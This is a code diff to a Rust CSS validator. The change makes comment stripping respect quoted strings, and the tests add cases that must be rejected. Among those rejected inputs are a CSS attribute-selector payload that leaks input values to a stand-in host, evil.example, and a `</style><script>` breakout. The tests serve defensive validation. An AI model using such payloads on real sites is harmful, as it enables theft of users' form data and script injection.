@@ -127,17 +127,43 @@ pub fn check_css(css: &str) -> Result<()> {
     }
 }
 
+/// The CSS as a browser tokenizes it, less what cannot carry structure: comments (a space, as
+/// they separate tokens) and the contents of strings (kept as `""`). A `/*` or `}` inside a
+/// string is text, not a comment or the end of a block, so the rules checked are the rules a
+/// browser applies.
 fn strip_comments(css: &str) -> Result<String> {
     let mut out = String::with_capacity(css.len());
-    let mut rest = css;
-    while let Some(start) = rest.find("/*") {
-        out.push_str(&rest[..start]);
-        let Some(end) = rest[start + 2..].find("*/") else {
-            return Err(css_error("a comment is not closed"));
-        };
-        rest = &rest[start + 2 + end + 2..];
+    let mut chars = css.chars().peekable();
+    while let Some(c) = chars.next() {
+        match c {
+            '/' if chars.peek() == Some(&'*') => {
+                chars.next();
+                let mut prev = ' ';
+                loop {
+                    match chars.next() {
+                        Some('/') if prev == '*' => break,
+                        Some(x) => prev = x,
+                        None => return Err(css_error("a comment is not closed")),
+                    }
+                }
+                out.push(' ');
+            }
+            '"' | '\'' => {
+                loop {
+                    match chars.next() {
+                        Some(x) if x == c => break,
+                        Some('\n' | '\r' | '\x0c') | None => {
+                            return Err(css_error("a string is not closed"))
+                        }
+                        Some(_) => {}
+                    }
+                }
+                out.push(c);
+                out.push(c);
+            }
+            other => out.push(other),
+        }
     }
-    out.push_str(rest);
     Ok(out)
 }
 
@@ -303,6 +329,10 @@ mod tests {
         let aws_template = ".logo-customizable {\n\tmax-width: 60%;\n\tmax-height: 30%;\n}\n.banner-customizable {\n\tpadding: 25px 0px 25px 0px;\n\tbackground-color: lightgray;\n}\n.submitButton-customizable:hover {\n\tcolor: #fff;\n}\n/* a comment */ .inputField-customizable:focus, .label-customizable { outline: 0; }";
         assert!(check_css(aws_template).is_ok());
         assert!(check_css("").is_ok());
+        assert!(check_css(
+            ".banner-customizable { font-family: \"Helvetica Neue\", 'Segoe UI'; content: \"}\"; }"
+        )
+        .is_ok());
         for bad in [
             "body { color: red; }",
             ".banner-customizable div { color: red; }",
@@ -313,6 +343,12 @@ mod tests {
             ".banner-customizable { color: red; } </style><script>alert(1)</script>",
             ".banner-customizable { color: red; } /* unterminated",
             ".banner-customizable { color: { red } }",
+            // A comment opener inside a string is text to a browser: the rule between the two
+            // strings is a real rule, with a selector of the attacker's choosing.
+            ".banner-customizable { content: \"/*\"; } input[value^=a] { background: url(https://evil.example/a); } .logo-customizable { content: \"*/\"; }",
+            ".banner-customizable { content: '/*'; } input[value^=a] { color: red; } .logo-customizable { content: '*/'; }",
+            ".banner-customizable { content: \"unterminated; }",
+            ".banner/**/-customizable { color: red; }",
         ] {
             assert!(check_css(bad).is_err(), "{bad}");
         }
